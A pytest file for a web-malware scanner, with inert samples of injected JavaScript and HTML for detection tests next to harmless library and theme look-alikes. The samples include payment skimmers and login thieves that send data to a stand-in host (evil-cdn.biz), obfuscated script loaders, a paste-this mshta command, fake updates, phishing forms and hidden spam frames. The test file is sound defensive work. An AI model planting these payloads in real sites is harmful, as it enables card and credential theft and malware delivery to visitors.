"""Scripts and pages: inert samples of what is put into them, and what libraries and themes do."""

import base64

import pytest

from scanners.browser.judgement import BrowserEngine
from scanners.engine import AuditedFile, Opinion
from sentry.domain.finding import FindingClass

ENGINE = BrowserEngine()
LOADER = "var s=document.createElement('script');s.src='https://evil-cdn.biz/a.js';document.head.appendChild(s);"
SKIMMER = (
    "document.addEventListener('submit',function(){if(location.href.indexOf('checkout')<0)return;"
    "var d={};document.querySelectorAll('input,select').forEach(function(i){d[i.name]=i.value});"
    "new Image().src='https://evil-cdn.biz/p?d='+btoa(JSON.stringify(d));});"
)
READABLE = "\n".join(f"function part{number}() {{\n  return {number};\n}}" for number in range(12))
SCRAMBLED = "var _0x3f1a=['a'],_0x3f1b=location;" + "".join(
    f"(function(_0x{n:04x},_0x{n + 9:04x}){{return _0x{n:04x};}});" for n in range(4096, 4120)
)


def judge(path: str, text: str) -> Opinion:
    """Returns what is said of a file."""
    return ENGINE.judge(AuditedFile(path, text.encode()), lambda: False)


def packed(code: str) -> str:
    """Returns code in base64, as a script hides it."""
    return base64.b64encode(code.encode()).decode()


def numbered(code: str, shift: int = 0) -> str:
    """Returns code as numbers of its characters."""
    return ",".join(str(ord(one) + shift) for one in code)


def escaped(code: str) -> str:
    """Returns code in escapes of two digits."""
    return "".join(f"\\x{ord(one):02x}" for one in code)


FITS = {
    "a skimmer": ("a.js", SKIMMER, "script_skims_payments"),
    "a skimmer in base64": ("a.js", f"eval(atob('{packed(SKIMMER)}'))", "script_skims_payments"),
    "a skimmer of some fields": (
        "a.js",
        (
            "function send(){fetch('https://evil-cdn.biz/c',{body:document.getElementById('cc_number').value+"
            "document.getElementById('cvv').value})}"
        ),
        "script_sends_card_data",
    ),
    "a loader in base64": ("a.js", f"eval(atob('{packed(LOADER)}'));", "script_loads_hidden_script"),
    "a loader in two layers": (
        "a.js",
        "eval(atob('" + packed(f"eval(atob('{packed(LOADER)}'))") + "'));",
        "script_loads_hidden_script",
    ),
    "a loader in numbers": ("a.js", f"eval(String.fromCharCode({numbered(LOADER)}))", "script_loads_hidden_script"),
    "a loader in shifted numbers": (
        "a.js",
        f"var n=[{numbered(LOADER, 7)}],c='';for(var i=0;i<n.length;i++)c+=String.fromCharCode(n[i]-7);eval(c);",
        "script_loads_hidden_script",
    ),
    "a loader in escapes": ("a.js", f'eval("{escaped(LOADER)}")', "script_loads_hidden_script"),
    "a loader backwards": (
        "a.js",
        "var s=document.createElement('script');s.src='sj.a/zib.ndc-live//:sptth'.split('').reverse().join('');",
        "script_loads_hidden_script",
    ),
    "a loader with its address in base64": (
        "a.js",
        f"var s=document.createElement('script');s.src=atob('{packed('https://evil-cdn.biz/a.js')}');",
        "script_loads_hidden_script",
    ),
    "a loader with names": (
        "a.js",
        f"var u='{packed('https://evil-cdn.biz/a.js')}';var s=document.createElement('script');s.src=atob(u);",
        "script_loads_hidden_script",
    ),
    "a loader from a table": (
        "a.js",
        (
            f"var _0x1a2b=['{escaped('script')}','{escaped('https://evil-cdn.biz/a.js')}'];"
            "var e=document.createElement(_0x1a2b[0]);e.src=_0x1a2b[0x1];"
        ),
        "script_loads_hidden_script",
    ),
    "a loader in percents": (
        "a.js",
        (
            "document.write(unescape('%3C%73%63%72%69%70%74%20%73%72%63%3D%68%74%74%70%3A%2F%2F%65%76"
            "%69%6C%2E%62%69%7A%2F%61%3E'))"
        ),
        "script_loads_hidden_script",
    ),
    "a packed redirect": (
        "a.js",
        (
            "eval(function(p,a,c,k,e,d){return "
            "p}('2.1=\"3://4-5.6/\"',7,7,'|href|location|https|evil|cdn|biz'.split('|'),0,{}))"
        ),
        "script_redirects_hidden",
    ),
    "a hidden redirect": (
        "a.js",
        f"window.location.href=atob('{packed('https://evil-cdn.biz/')}');",
        "script_redirects_hidden",
    ),
    "a redirect of searchers": (
        "a.js",
        "if(document.referrer.indexOf('google')>0){location.href='https://pills-shop.biz/'}",
        "script_redirects_searchers",
    ),
    "a redirect of phones": (
        "a.js",
        "if(/android|iphone/i.test(navigator.userAgent)){location.replace('https://apk-shop.biz/')}",
        "script_redirects_phones",
    ),
    "a miner": ("a.js", "var m=new CoinHive.Anonymous('key');m.start();", "script_mines"),
    "a command to paste": (
        "a.html",
        (
            "<script>navigator.clipboard.writeText('mshta https://evil-cdn.biz/x');show('Verify you are human: "
            "press Win+R');</script>"
        ),
        "script_gives_commands",
    ),
    "an update": (
        "a.js",
        (
            "show('Update your browser');link.href='https://evil-cdn.biz/chrome.zip';link.click('.zip');"
            "a.download='u.exe';fetch('https://evil-cdn.biz/');"
        ),
        "script_fakes_update",
    ),
    "code of a block chain": (
        "a.js",
        "fetch('https://bsc-dataseed1.binance.org/',{body:'eth_call'}).then(r=>r.json()).then(j=>eval(atob(j.x)));",
        "script_runs_from_chain",
    ),
    "a bot": (
        "a.js",
        "fetch('https://api.telegram.org/bot1:x/sendMessage?text='+document.forms[0].password.value)",
        "script_tells_bot",
    ),
    "a thief of logins": (
        "a.js",
        (
            "document.getElementById('user_pass').onblur=function(){new "
            "Image().src='https://evil-cdn.biz/?p='+this.value}"
        ),
        "script_takes_logins",
    ),
    "a worker": ("sw.js", "importScripts('https://push-spam.biz/sw.js');", "script_worker_of_stranger"),
    "an unreadable end": ("a.js", f"{READABLE}\n{SCRAMBLED}", "script_appended"),
    "an unreadable begin": ("a.js", f"{SCRAMBLED}\n{READABLE}", "script_appended"),
    "brackets": ("a.js", "(![]+[])[+[]]" * 60 + ";eval", "script_of_signs"),
    "scrambled": ("a.js", SCRAMBLED, "script_scrambled"),
    "in a page": ("a.html", f"<html><script>eval(atob('{packed(LOADER)}'))</script>", "script_loads_hidden_script"),
    "in a template": (
        "footer.php",
        f'<?php echo 1; ?><script>eval(atob("{packed(LOADER)}"))</script>',
        "script_loads_hidden_script",
    ),
    "in a text of php": (
        "footer.php",
        f'<?php echo "<script>eval(atob(\\"{packed(LOADER)}\\"))</script>";',
        "script_loads_hidden_script",
    ),
    "a hidden frame": (
        "a.html",
        '<iframe src="https://evil-cdn.biz/" width="0" height="0"></iframe>',
        "page_hidden_frame",
    ),
    "a frame out of sight": (
        "a.php",
        "<?php ?><iframe src='http://evil-cdn.biz/' style='position:absolute;left:-9999px'></iframe>",
        "page_hidden_frame",
    ),
    "hidden links": (
        "a.html",
        '<div style="position:absolute;left:-8000px">'
        + "".join(f'<a href="https://shop{n}.biz/">things</a>' for n in range(4))
        + "</div>",
        "page_hidden_links",
    ),
    "hidden spam": (
        "a.php",
        '<?php ?><div style="display:none">'
        + "".join(f'<a href="https://shop{n}.biz/">cheap viagra</a>' for n in range(4))
        + "</div>",
        "page_hidden_spam",
    ),
    "a script behind the page": (
        "a.html",
        "<html><body></body></html>\n<script src='https://evil-cdn.biz/a.js'></script>",
        "page_script_outside",
    ),
    "a script before the page": (
        "a.php",
        "<script src='https://evil-cdn.biz/a.js'></script><?php\nrequire 'wp-load.php';",
        "page_script_outside",
    ),
    "an imitated host": (
        "a.html",
        "<script src='https://google-analytlcs-cdn.biz/ga.js'></script>",
        "page_script_odd_host",
    ),
    "a bare address": ("a.html", "<script src='http://93.184.216.34/ga.js'></script>", "page_script_odd_host"),
    "a password to a stranger": (
        "a.html",
        '<form action="https://evil-cdn.biz/in.php"><input type="password" name="p"></form>',
        "page_password_to_stranger",
    ),
    "a brand": (
        "index.html",
        "<title>PayPal: Log in</title><form action='next.php'><input type=password></form>",
        "page_asks_as_brand",
    ),
}


@pytest.mark.parametrize(("path", "text", "rule"), FITS.values(), ids=FITS)
def test_what_is_put_into_pages_is_seen(path: str, text: str, rule: str) -> None:
    """Each technique has its sign, whatever it is hidden in."""
    assert rule in {sign.rule for sign in judge(path, text).signs}


HARMLESS = {
    "a payment form's own script": (
        "pay.js",
        "form.addEventListener('submit',function(){fetch('/pay',{body:form.cc_number.value+form.cvv.value})});",
    ),
    "a known payment service": (
        "pay.js",
        (
            "var u='https://api.stripe.com/v1';form.onsubmit=function(){fetch('https://api.stripe.com/v1',"
            "{body:JSON.stringify({cvc:f.cvc.value,card_number:f.card_number.value})})};"
        ),
    ),
    "a plain loader": ("a.js", LOADER),
    "the old loader of analytics": (
        "a.html",
        (
            '<script>document.write(unescape("%3Cscript src=\'" + gaJsHost + "google-analytics.com/ga.js\' '
            "type='text/javascript'%3E%3C/script%3E\"));</script>"
        ),
    ),
    "a copy of a library": (
        "a.html",
        "<script>window.jQuery || document.write('<script src=\"js/jquery.min.js\"><\\/script>')</script>",
    ),
    "a packed library": (
        "a.js",
        "eval(function(p,a,c,k,e,d){return p}('0 1(2){3 2*2}',4,4,'function|square|number|return'.split('|'),0,{}))",
    ),
    "texts in base64": ("a.js", "function read(x){return JSON.parse(atob(x))}location.hash;"),
    "a table of letters": (
        "a.js",
        "var e={'a':'\\xe0','b':'\\xe1\\xe2\\xe3\\xe4\\xe5'};document.createElement('p');",
    ),
    "an address in a comment": (
        "a.js",
        (
            "// see https://stackoverflow.com/q/1\n$.ajax({url: '/checkout', data: {cvc: "
            "$('#cvc').val(), card_number: 1}});"
        ),
    ),
    "a tracker's frame": (
        "a.html",
        (
            '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=G" height="0" width="0" '
            'style="display:none;visibility:hidden"></iframe></noscript>'
        ),
    ),
    "a hidden menu": ("a.html", '<div style="display:none"><a href="https://www.facebook.com/x">Facebook</a></div>'),
    "skip links": ("a.html", '<a style="position:absolute;left:-9999px" href="#content">Skip to content</a>'),
    "a link to a site": ("a.html", '<p><a href="https://shop.biz/">a shop</a></p>'),
    "a copy button": ("a.js", "button.onclick=function(){navigator.clipboard.writeText(code.innerText)};"),
    "a known worker": ("sw.js", "importScripts('https://cdn.onesignal.com/sdks/OneSignalSDKWorker.js');"),
    "an own form": ("a.html", '<title>Log in</title><form action="/login"><input type="password"></form>'),
    "a search of another site": ("a.html", '<form action="https://search.biz/"><input name="q"></form>'),
    "a minified library": ("a.js", "!function(e,t){var n=e.location.href;t.exports=n}(window,module);" * 50),
    "a style": ("a.css", "div{display:none}"),
    "a picture": ("a.png", "\x00<script>eval(atob('YWFhYWFh'))"),
}


@pytest.mark.parametrize(("path", "text"), HARMLESS.values(), ids=HARMLESS)
def test_what_libraries_and_themes_do_is_not_seen(path: str, text: str) -> None:
    """False alarms are what people leave their scanners for."""
    assert [sign.rule for sign in judge(path, text).signs] == []


def test_layer_is_shown_with_its_depth() -> None:
    """What was hidden twice is two deep, and the rules are given each text."""
    opinion = judge("a.js", "eval(atob('" + packed(f"eval(atob('{packed(LOADER)}'))") + "'));")

    assert LOADER.encode() in opinion.layers
    assert max(sign.layer for sign in opinion.signs) > 1


def test_hidden_skimmer_is_confirmed_and_a_scrambled_script_only_encoded() -> None:
    """Who scrambles his own work is no thief."""
    skimmer = judge("a.js", f"eval(atob('{packed(SKIMMER)}'))").signs
    scrambled = judge("a.js", SCRAMBLED).signs

    assert FindingClass.CONFIRMED in {sign.verdict for sign in skimmer}
    assert {sign.verdict for sign in scrambled} == {FindingClass.ENCODED}


def test_script_that_takes_too_long_says_so() -> None:
    """Time that is over is no verdict."""
    opinion = ENGINE.judge(AuditedFile("a.js", b"eval(atob('YWFhYWFhYWFh'))" * 50), lambda: True)

    assert opinion.left_out == "not looked at whole: too large or too slow"


def test_line_of_a_script_in_a_page_is_the_line_of_the_file() -> None:
    """The reader opens the file where it is."""
    (sign,) = judge("a.html", "<html>\n\n<iframe src='https://evil-cdn.biz/' width=0 height=0></iframe>").signs

    assert sign.way[0].number == 3
